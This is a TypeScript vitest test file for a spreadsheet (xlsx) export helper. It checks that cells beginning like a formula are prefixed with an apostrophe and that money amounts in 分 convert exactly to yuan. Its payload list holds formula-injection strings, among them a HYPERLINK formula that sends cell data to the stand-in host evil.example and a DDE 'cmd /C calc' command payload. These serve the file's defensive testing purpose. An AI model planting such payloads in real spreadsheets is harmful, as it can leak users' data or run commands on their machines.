import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { fenToYuan, safeText, sheetCell, unescapeText, xlsxBuffer, YUAN_FORMAT } from './xlsx.js';

const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0'];

async function readBack(buf: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  return wb;
}

describe('the spreadsheet cell rule', () => {
  it('prefixes text that begins like a formula with an apostrophe, and nothing else', () => {
    for (const p of PAYLOADS) expect(safeText(p)).toBe(`'${p}`);
    for (const s of ['苏州甲科技有限公司', 'a=b', '1+1', "'already", '', '（=）']) expect(safeText(s)).toBe(s);
    for (const p of PAYLOADS) expect(unescapeText(safeText(p))).toBe(p);
    expect(unescapeText("'plain")).toBe("'plain");
    expect(sheetCell(-5)).toBe(-5); // numbers stay numbers, negative ones too
    expect(sheetCell(null)).toBeNull();
    expect(() => sheetCell(Number.NaN)).toThrow();
  });

  it('an .xlsx read back with exceljs: payload names are strings starting with an apostrophe, no cell holds a formula, money cells are numbers = 分/100 that sum exactly', async () => {
    const fens = [1, 5, 10, 99, 12345678901, 333, 70_000_000, 1_999_999_999_99, 7];
    const rows = fens.map((fen, i) => ({ name: PAYLOADS[i % PAYLOADS.length]!, note: i % 2 ? '-负数开头' : '正常', yuan: fen, fen }));
    const buf = await xlsxBuffer('清单', [{ header: '名称', key: 'name' }, { header: '备注', key: 'note' }, { header: '金额（元）', key: 'yuan', fen: true }, { header: '金额（分）', key: 'fen' }], rows);
    const ws = (await readBack(buf)).worksheets[0]!;
    let sum = 0;
    ws.eachRow((row, n) => {
      row.eachCell((cell) => {
        expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, cell.address).toBeUndefined();
      });
      if (n === 1) return;
      const r = rows[n - 2]!;
      // (XML reads a carriage return inside text back as a line feed: that is the file format, not the prefix)
      expect(row.getCell(1).value).toBe(`'${r.name}`.replace(/\r/g, '\n'));
      expect(row.getCell(2).value).toBe(r.note.startsWith('-') ? `'${r.note}` : r.note);
      const yuan = row.getCell(3);
      expect(typeof yuan.value).toBe('number');
      expect(yuan.value).toBe(r.fen / 100);
      expect(yuan.numFmt).toBe(YUAN_FORMAT);
      expect(row.getCell(4).value).toBe(r.fen);
      sum += yuan.value as number;
    });
    const fenTotal = fens.reduce((a, b) => a + b, 0);
    expect(Math.round(sum * 100)).toBe(fenTotal);
    expect(sum.toFixed(2)).toBe(fenToYuan(fenTotal).toFixed(2));
  });

  it('stays text when the sheet is saved again as CSV', async () => {
    const oneLine = PAYLOADS.filter((p) => !p.includes('\r')); // one record per line, to read the CSV simply
    const buf = await xlsxBuffer('清单', [{ header: '名称', key: 'name' }], oneLine.map((name) => ({ name })));
    const csv = (await (await readBack(buf)).csv.writeBuffer()).toString();
    const lines = csv.split('\n').slice(1).filter(Boolean);
    expect(lines).toHaveLength(oneLine.length);
    // every cell begins with the apostrophe (or a quote that CSV quoting adds around it)
    for (const l of lines) expect(l).toMatch(/^"?'/);
  });

  it('refuses an amount that is not an integer number of 分', () => {
    expect(() => fenToYuan(1.5)).toThrow();
    expect(fenToYuan(-1234)).toBe(-12.34);
  });
});
